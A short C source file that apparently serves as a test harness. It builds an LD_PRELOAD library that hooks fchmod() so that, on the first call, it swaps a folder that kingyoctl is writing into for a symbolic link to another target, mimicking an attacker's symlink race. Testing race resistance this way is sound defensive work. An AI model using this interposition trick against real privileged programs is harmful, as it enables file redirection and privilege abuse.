/* swap_folder.c -- a library for LD_PRELOAD that replaces a folder while kingyoctl writes into it,
 * as an attacker could. At the first call of fchmod(), the library renames the folder SWAP_FOLDER
 * to SWAP_FOLDER.moved, and puts a symbolic link to SWAP_TARGET in its place. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int fchmod(int fd, mode_t mode)
{
    static int is_done;
    const char *folder = getenv("SWAP_FOLDER"), *target = getenv("SWAP_TARGET");
    char moved[4096];
    if (!is_done && folder && target) {
        is_done = 1;
        snprintf(moved, sizeof moved, "%s.moved", folder);
        if (rename(folder, moved) != 0 || symlink(target, folder) != 0) {
            abort();
        }
    }
    return (int)syscall(SYS_fchmod, fd, mode);
}
